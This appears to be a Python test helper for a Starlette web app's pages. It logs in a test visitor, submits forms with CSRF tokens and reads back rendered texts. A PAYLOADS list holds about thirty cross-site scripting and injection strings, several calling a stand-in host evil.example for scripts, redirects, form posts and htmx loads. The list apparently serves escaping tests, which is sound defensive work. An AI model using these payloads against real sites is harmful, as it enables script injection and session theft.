"""Pages over the small store of the screenshots, with a visitor who fills in forms."""

import html
import re
from urllib.parse import urlencode

from starlette.applications import Starlette
from starlette.testclient import TestClient

from benchmarks.screenshots import ADMIN
from genjax.serve.pages.routes import make_pages

PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href=javascript:alert(1)>x</a>",
    "javascript:alert(1)",
    "<body onload=alert(1)>",
    "<form action=//evil.example><input name=csrf></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<div hx-get=//evil.example hx-trigger=load>",
    '<div data-hx-on:load="alert(1)">',
    "{{ 7 * 7 }}{% raw %}<script>",
    "${alert(1)}<%= 7 %><script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;<script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "\u202e<script>\u202c\ufeff<b>\x1b[31m</b>",
    "<math><mi xlink:href=javascript:alert(1)>",
    "%3Cscript%3Ealert(1)%3C/script%3E<u>",
)


def visit(context, token=ADMIN):
    """A visitor who is logged in."""
    client = TestClient(Starlette(routes=make_pages(context)))
    if token is not None:
        answer = submit(client, "/login", {"token": token}, page="/login")
        assert answer.status_code == 200, answer.text
    return client


def read_csrf(page):
    return html.unescape(re.search(r'name="csrf" value="([^"]+)"', page)[1])


def submit(client, path, fields, page="/", **options):
    """Send a form with the secret of a page."""
    csrf = read_csrf(client.get(page).text)
    pairs = list(fields.items()) if isinstance(fields, dict) else list(fields)
    content = urlencode([("csrf", csrf), *pairs])
    kind = {"Content-Type": "application/x-www-form-urlencoded"}
    return client.post(path, content=content, headers=kind | options.pop("headers", {}), **options)


def find_texts(page):
    """The texts of a page, as a browser shows them."""
    found = re.findall(r'<div class="text[^"]*" dir="auto">(.*?)</div>', page, re.DOTALL)
    return [html.unescape(one) for one in found]
